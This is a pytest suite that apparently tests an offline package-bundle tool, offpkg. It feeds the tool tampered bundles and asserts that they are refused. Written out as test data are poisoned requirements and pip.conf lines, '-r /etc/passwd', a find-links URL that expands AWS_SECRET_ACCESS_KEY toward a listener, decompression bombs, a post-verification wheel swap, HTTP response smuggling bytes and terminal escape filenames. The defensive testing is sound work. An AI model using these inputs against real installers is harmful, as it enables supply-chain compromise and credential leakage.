"""Hostile bundles: every attack class of issue 12 items 2, 5, 6 and 7, refused (or made harmless).

Each attack edits a real bundle and reseals it (offpkg.json and SHA256SUMS rewritten to
match, as an attacker with write access would), so integrity checks pass by construction.
Each case asserts: refused with one clear error, no marker file from attacker code, no
network attempt (the offline side runs under ``unshare -n``; the case that expands
environment variables into a URL runs outside it, with a listener on 127.0.0.1 counting
connections), and nothing written outside (no venv, TMPDIR left empty).
"""

from __future__ import annotations

import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tarfile
import threading
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from conftest import assert_clean_error, run_offpkg
from hostile import bundle_files, evil_wheel, many_members, reseal, sha256_of, zstd_bomb

ALPHA = "wheels/alpha-1.0-py3-none-any.whl"


@pytest.fixture(scope="module")
def good(tmp_path_factory, index, session_uv_cache) -> Path:
    """One genuine bundle of alpha (-> beta -> gamma), built once; tests attack copies of it."""
    base = tmp_path_factory.mktemp("good")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "UV_", "OFFPKG_"))}
    env.update(HOME=str(base), PIP_CONFIG_FILE=os.devnull, OFFPKG_CACHE_DIR=str(base / "cache"),
               UV_CACHE_DIR=str(session_uv_cache), CI="1")
    proc = run_offpkg(["bundle", "alpha", "-i", index.url, "-o", str(base / "b")], env)
    assert proc.returncode == 0, proc.stderr
    return base / "b"


@pytest.fixture
def world(tmp_path: Path, env: dict[str, str]) -> dict:
    """A private TMPDIR (must stay empty), the marker attacker code would write, the env for offpkg."""
    tmpdir = tmp_path / "tmpdir"
    tmpdir.mkdir()
    env = dict(env, TMPDIR=str(tmpdir))
    return {"tmp": tmp_path, "tmpdir": tmpdir, "marker": tmp_path / "PWNED", "env": env}


def _copy(good: Path, tmp: Path) -> Path:
    b = tmp / "b"
    shutil.copytree(good, b)
    return b


def _append(path: Path, text: str) -> None:
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


# ------------------------------------------------------------------ the lock-file classes

def _shadow_find_links(b: Path, w: dict) -> None:
    # A build-tagged wheel wins over the genuine one when pip sees both and both hashes are allowed.
    shadow = evil_wheel(b / "extra", "alpha", "1.0", w["marker"], build="1")
    text = (b / "requirements.txt").read_text()
    text = text.replace("alpha==1.0 \\\n", f"alpha==1.0 \\\n    --hash=sha256:{sha256_of(shadow)} \\\n")
    (b / "requirements.txt").write_text("--find-links extra\n" + text)


def _req_line(line: str) -> Callable[[Path, dict], None]:
    return lambda b, w: _append(b / "requirements.txt", line + "\n")


def _second_hash(b: Path, w: dict) -> None:
    text = (b / "requirements.txt").read_text()
    (b / "requirements.txt").write_text(text.replace("alpha==1.0 \\\n", "alpha==1.0 \\\n    --hash=sha256:"
                                                     + "ab" * 32 + " \\\n"))


def _pylock_directory(b: Path, w: dict) -> None:
    _append(b / "pylock.toml", '\n[[packages]]\nname = "evil"\nversion = "1.0"\ndirectory = {path = "/"}\n')


def _pylock_remote(b: Path, w: dict) -> None:
    text = (b / "pylock.toml").read_text()
    (b / "pylock.toml").write_text(text.replace(f'path = "{ALPHA}"',
                                                'url = "http://127.0.0.1:9/alpha-1.0-py3-none-any.whl"'))


def _pip_conf(line: str) -> Callable[[Path, dict], None]:
    return lambda b, w: _append(b / "pip.conf", line + "\n")


def _archive_outside(b: Path, w: dict) -> None:
    evil_wheel(b, "alpha", "1.0", w["marker"], build="2")


LOCK_CASES = {
    "shadow-find-links+2nd-hash": (_shadow_find_links, "--find-links extra"),
    "no-binary": (_req_line("--no-binary alpha"), "--no-binary alpha"),
    "index-url": (_req_line("--index-url http://127.0.0.1:9/simple"), "--index-url"),
    "extra-index-url": (_req_line("--extra-index-url http://127.0.0.1:9/simple"), "--extra-index-url"),
    "trusted-host": (_req_line("--trusted-host 127.0.0.1"), "--trusted-host"),
    "pre": (_req_line("--pre"), "--pre"),
    "constraint-file": (_req_line("-c /etc/passwd"), "-c /etc/passwd"),
    "include-file": (_req_line("-r /etc/passwd"), "-r /etc/passwd"),
    "editable": (_req_line("-e /"), "-e /"),
    "url-requirement": (_req_line("delta @ http://127.0.0.1:9/delta-1.0-py3-none-any.whl"), "delta @ http"),
    "second-hash": (_second_hash, "not the hash of its bundled wheel"),
    "pylock-directory-source": (_pylock_directory, "'directory' is a source other than the bundle's wheels"),
    "pylock-remote-wheel": (_pylock_remote, "'url' is not allowed"),
    "pip.conf-index-url": (_pip_conf("index-url = http://127.0.0.1:9/simple"), "pip.conf:"),
    "pip.conf-find_links": (_pip_conf("find_links = http://127.0.0.1:9/"), "find_links"),
    "pip.conf-trusted-host": (_pip_conf("trusted-host = 127.0.0.1"), "trusted-host"),
    "wheel-outside-wheels": (_archive_outside, "a package archive outside wheels/ and tools/"),
}


@pytest.mark.parametrize("case", list(LOCK_CASES))
def test_lock_attacks_are_refused_by_verify_and_install(case, good, world, offline) -> None:
    attack, needle = LOCK_CASES[case]
    b = _copy(good, world["tmp"])
    attack(b, world)
    reseal(b)
    proc = run_offpkg(["verify", str(b)], world["env"])
    assert_clean_error(proc, 1, needle)
    venv = world["tmp"] / "venv"
    proc = run_offpkg(["install", str(b), "--venv", str(venv)], world["env"], offline=offline)
    assert_clean_error(proc, 1, "failed verification", needle)
    assert not venv.exists() and not world["marker"].exists()
    assert not list(world["tmpdir"].iterdir())
    # install.sh (hosts without offpkg) refuses them too, before anything is installed.
    sh = subprocess.run([*offline, "sh", str(b / "install.sh"), str(venv)], env=world["env"],
                        capture_output=True, text=True, timeout=300)
    if case.startswith(("pylock", "pip.conf", "wheel-outside")):
        # install.sh neither reads pylock.toml nor copies pip.conf, and installs only from wheels/.
        assert not world["marker"].exists()
        shutil.rmtree(venv, ignore_errors=True)
    else:
        assert sh.returncode == 1 and ("not allowed" in sh.stderr or "hashes of" in sh.stderr), sh.stderr
        assert not venv.exists() and not world["marker"].exists()


class _Listener:
    """A TCP listener on 127.0.0.1 that counts connection attempts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.mark.parametrize("backend", ["pip", "uv"])
def test_env_var_url_in_find_links_makes_no_connection(backend, good, world) -> None:
    """Outside unshare -n: pip would expand ${VAR} into the URL and connect despite --no-index."""
    listener = _Listener()
    try:
        b = _copy(good, world["tmp"])
        _append(b / "requirements.txt",
                f"--find-links http://127.0.0.1:{listener.port}/${{HOME}}/${{AWS_SECRET_ACCESS_KEY}}\n")
        reseal(b)
        env = dict(world["env"], AWS_SECRET_ACCESS_KEY="s3cr3t-value")
        venv = world["tmp"] / "venv"
        proc = run_offpkg(["install", str(b), "--venv", str(venv), "--backend", backend], env)
        assert_clean_error(proc, 1, "--find-links http://127.0.0.1")
        sh = subprocess.run(["sh", str(b / "install.sh"), str(venv)], env=env, capture_output=True, text=True,
                            timeout=300)
        assert sh.returncode == 1, sh.stdout + sh.stderr
        assert listener.connections == 0
        assert not venv.exists() and not list(world["tmpdir"].iterdir())
        assert "s3cr3t-value" not in proc.stdout + proc.stderr + sh.stdout + sh.stderr
    finally:
        listener.close()


@pytest.mark.parametrize("backend", ["pip", "uv"])
def test_environment_and_user_config_open_no_door(backend, good, world) -> None:
    """PIP_*/UV_* variables and the user's pip.conf / uv.toml pointing at an index: a genuine bundle
    installs, and nothing connects (outside unshare -n, a listener counts)."""
    listener = _Listener()
    try:
        url = f"http://127.0.0.1:{listener.port}"
        env = dict(world["env"])
        for k in ("PIP_FIND_LINKS", "UV_FIND_LINKS"):
            env[k] = url + "/links/"
        for k in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "UV_INDEX",
                  "UV_DEFAULT_INDEX"):
            env[k] = url + "/simple/"
        env.pop("PIP_CONFIG_FILE")
        home = Path(env["HOME"])
        (home / ".config" / "pip").mkdir(parents=True)
        (home / ".config" / "pip" / "pip.conf").write_text(f"[global]\nfind-links = {url}/conf/\n")
        (home / ".config" / "uv").mkdir(parents=True)
        (home / ".config" / "uv" / "uv.toml").write_text(f'find-links = ["{url}/uvconf/"]\n')
        venv = world["tmp"] / "venv"
        proc = run_offpkg(["install", str(good), "--venv", str(venv), "--backend", backend], env)
        assert proc.returncode == 0, proc.stderr
        assert listener.connections == 0
    finally:
        listener.close()


# ------------------------------------------------------------------ time of check, time of use

def test_swap_after_verification_is_not_installed(good, world, offline) -> None:
    """The bundle directory is swapped (wheel + requirements.txt) after offpkg verified it: the
    install still comes from the private snapshot that was verified."""
    b = _copy(good, world["tmp"])
    evil = evil_wheel(world["tmp"] / "evil", "alpha", "1.0", world["marker"])
    wrapper = world["tmp"] / "python-swapping"
    flag = world["tmp"] / "swapped"
    # The first run of --python is offpkg's probe, after verification: swap the bundle then.
    wrapper.write_text(f"""#!/bin/sh
if [ ! -e {flag} ]; then
    : > {flag}
    cp {evil} {b / ALPHA}
    sed -i 's/{sha256_of(b / ALPHA)}/{sha256_of(evil)}/' {b / 'requirements.txt'}
fi
exec {sys.executable} "$@"
""")
    wrapper.chmod(0o755)
    venv = world["tmp"] / "venv"
    proc = run_offpkg(["install", str(b), "--venv", str(venv), "--python", str(wrapper)], world["env"],
                      offline=offline)
    assert proc.returncode == 0, proc.stderr
    assert flag.exists() and sha256_of(b / ALPHA) == sha256_of(evil)  # the swap did happen
    installed = next(venv.glob("lib/python*/site-packages/alpha/__init__.py")).read_text()
    assert "EVIL" not in installed and not world["marker"].exists()
    # The venv's pip.conf is offpkg's own, never the bundle's.
    conf = (venv / "pip.conf").read_text()
    assert conf.startswith("# Written by offpkg") and "index-url" not in conf
    assert not list(world["tmpdir"].iterdir())


def test_symlinked_or_unlisted_files_in_a_directory_bundle_are_refused(good, world, offline) -> None:
    b = _copy(good, world["tmp"])
    outside = world["tmp"] / "outside.txt"
    outside.write_text((b / "requirements.txt").read_text())
    (b / "requirements.txt").unlink()
    (b / "requirements.txt").symlink_to(outside)
    (b / "stray.pth").write_text("import os\n")
    venv = world["tmp"] / "venv"
    proc = run_offpkg(["install", str(b), "--venv", str(venv)], world["env"], offline=offline)
    assert_clean_error(proc, 1, "requirements.txt: is a symbolic link", "stray.pth: present but not listed")
    assert not venv.exists() and not list(world["tmpdir"].iterdir())


# ------------------------------------------------------------------ serve

def _raw_get(port: int, path: str) -> bytes:
    """One HTTP/1.1 request; everything the server sends until it closes the connection."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        out = b""
        while chunk := s.recv(1 << 16):
            out += chunk
    return out


def test_serve_sends_only_the_verified_bytes(good, world) -> None:
    from test_serve import Server

    b = _copy(good, world["tmp"])
    server = Server(b, world["env"])
    try:
        beta = next((b / "wheels").glob("beta-*.whl"))
        gamma = next((b / "wheels").glob("gamma-*.whl"))
        genuine = (b / ALPHA).read_bytes()
        assert _raw_get(server.port, f"/{ALPHA}").endswith(genuine)
        # Changed in place, same size: the last chunk is held back; the body stops short.
        (b / ALPHA).write_bytes(genuine[:-1] + bytes([genuine[-1] ^ 1]))
        resp = _raw_get(server.port, f"/{ALPHA}")
        head, _, body = resp.partition(b"\r\n\r\n")
        assert f"Content-Length: {len(genuine)}".encode() in head and len(body) < len(genuine)
        # Grown by a smuggled second response: refused, and only one response is ever sent.
        smuggled = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nevil!"
        with open(beta, "ab") as f:
            f.write(smuggled)
        resp = _raw_get(server.port, f"/wheels/{beta.name}")
        assert resp.startswith(b"HTTP/1.1 404") and resp.count(b"HTTP/1.1 ") == 1 and b"evil!" not in resp
        # Swapped for a symlink to a file outside: not followed.
        outside = world["tmp"] / "gamma-copy.whl"
        shutil.copy(gamma, outside)
        gamma.unlink()
        gamma.symlink_to(outside)
        assert _raw_get(server.port, f"/wheels/{gamma.name}").startswith(b"HTTP/1.1 404")
    finally:
        server.stop()
    log = "".join(server.log)
    assert "stopped sending" in log and "no longer the verified file" in log


# ------------------------------------------------------------------ resources

def _archive_refused(path: Path, world: dict, offline, *needles: str) -> None:
    proc = run_offpkg(["verify", str(path)], world["env"])
    assert proc.returncode in (1, 3) and "Traceback" not in proc.stderr, proc.stderr
    for n in needles:
        assert n in proc.stdout + proc.stderr, proc.stderr
    venv = world["tmp"] / "venv"
    proc = run_offpkg(["install", str(path), "--venv", str(venv)], world["env"], offline=offline)
    assert proc.returncode in (1, 3) and "Traceback" not in proc.stderr, proc.stderr
    for n in needles:
        assert n in proc.stdout + proc.stderr, proc.stderr
    assert not venv.exists() and not list(world["tmpdir"].iterdir())


def test_zstd_bomb_declaring_1000_gib_is_refused(good, world, offline) -> None:
    bomb = zstd_bomb(world["tmp"] / "bomb.tar.zst", after=bundle_files(good))
    assert bomb.stat().st_size < 40 << 20
    _archive_refused(bomb, world, offline, "a decompression bomb?")


def test_listed_bomb_is_refused_before_decompression(good, world, offline) -> None:
    """The attacker lists the 1,000 GiB member in the manifest: the zstd frame walk refuses it first."""
    b = _copy(good, world["tmp"])
    m = json.loads((b / "offpkg.json").read_text())
    m["files"].append({"path": "zz-bomb.bin", "sha256": "0" * 64, "size": 1000 << 30})
    (b / "offpkg.json").write_text(json.dumps(m))
    bomb = zstd_bomb(world["tmp"] / "listed.tar.zst", name="zz-bomb.bin", before=bundle_files(b))
    _archive_refused(bomb, world, offline, "a decompression bomb?")


@pytest.mark.parametrize("key,value", [("MAX_BUNDLE_SIZE", "1M"), ("MAX_BUNDLE_MEMBERS", "5")])
def test_configured_limits_refuse_before_any_work(key, value, good, world, offline) -> None:
    archive = world["tmp"] / "b.tar"
    with tarfile.open(archive, "w") as tf:
        for n, d in bundle_files(good):
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            tf.addfile(ti, io.BytesIO(d))
    world["env"]["OFFPKG_" + key] = value
    _archive_refused(archive, world, offline, f"({key.lower()})" if key == "MAX_BUNDLE_SIZE" else "over the limit of 5")


def test_gzip_stream_over_the_ratio_is_refused(good, world, offline) -> None:
    """Not only zstd: a gzip stream expanding more than 1000:1 is stopped while it is read,
    here while offpkg looks for the manifest behind 300 MB of zeros."""
    ti = tarfile.TarInfo("AAA-zeros.bin")
    ti.size = 300 << 20
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = comp.compress(ti.tobuf(tarfile.PAX_FORMAT))
    zeros = bytes(1 << 20)
    for _ in range(300):
        out += comp.compress(zeros)
    for n, d in bundle_files(good):
        ti = tarfile.TarInfo(n)
        ti.size = len(d)
        out += comp.compress(ti.tobuf(tarfile.PAX_FORMAT) + d + b"\0" * (-len(d) % 512))
    out += comp.compress(b"\0" * 1024) + comp.flush()
    path = world["tmp"] / "zeros.tar.gz"
    path.write_bytes(out)
    _archive_refused(path, world, offline, "a decompression bomb?")


@pytest.mark.parametrize("where", ["manifest-first", "manifest-last"])
def test_300000_members_are_refused(where, good, world, offline) -> None:
    files = bundle_files(good)
    path = many_members(world["tmp"] / "many.tar", 300_000, **({"first": files} if where == "manifest-first"
                                                                else {"last": files}))
    needle = "is not listed in the bundle's manifest" if where == "manifest-first" else "over the limit of 10000"
    _archive_refused(path, world, offline, needle)


def test_300000_files_in_a_directory_bundle_are_refused(good, world, offline) -> None:
    b = _copy(good, world["tmp"])
    for i in range(300_000):
        (b / "wheels" / f"e{i:06d}").touch()
    proc = run_offpkg(["verify", str(b)], world["env"])
    assert_clean_error(proc, 1, "wheels/e000000: present but not listed", "more problem(s)")
    assert len(proc.stderr.splitlines()) < 300  # the problems are capped, not 300,000 lines
    venv = world["tmp"] / "venv"
    proc = run_offpkg(["install", str(b), "--venv", str(venv)], world["env"], offline=offline)
    assert_clean_error(proc, 1, "present but not listed", "more problem(s)")
    assert not venv.exists() and not list(world["tmpdir"].iterdir())
    shutil.rmtree(b)  # 300,000 inodes need not outlive the test


# ------------------------------------------------------------------ the terminal

ESC_NAME = "\x1b[1A\x1b[2K\rok: verified \x1b]0;owned\x07\u202egnp.evil"


def test_escape_sequences_from_the_bundle_never_reach_the_terminal(good, world) -> None:
    b = _copy(good, world["tmp"])
    reseal(b, created="\x1b[2J\x1b[32mverified: yes\x1b[0m", requirements=["alpha\x9b31m"])
    (b / "wheels" / ESC_NAME).write_bytes(b"x")  # not listed: named in the problems
    outputs = []
    for args in (["verify", str(b)], ["inspect", str(b)]):
        proc = run_offpkg(args, world["env"])
        outputs.append(proc.stdout + proc.stderr)
    archive = world["tmp"] / "b.tar"
    with tarfile.open(archive, "w") as tf:
        for n, d in bundle_files(good):
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            tf.addfile(ti, io.BytesIO(d))
        ti = tarfile.TarInfo(ESC_NAME)
        ti.size = 1
        tf.addfile(ti, io.BytesIO(b"x"))
    proc = run_offpkg(["verify", str(archive)], world["env"])
    outputs.append(proc.stdout + proc.stderr)
    assert "not listed in the bundle's manifest" in outputs[2]
    for out in outputs:
        assert not any(c in out for c in "\x1b\x07\x9b\u202e\r"), out
    assert "\\x1b[2K" in outputs[0] and "\\u202e" in outputs[0]  # shown, harmlessly
    assert "\\x1b[32mverified: yes" in outputs[1]
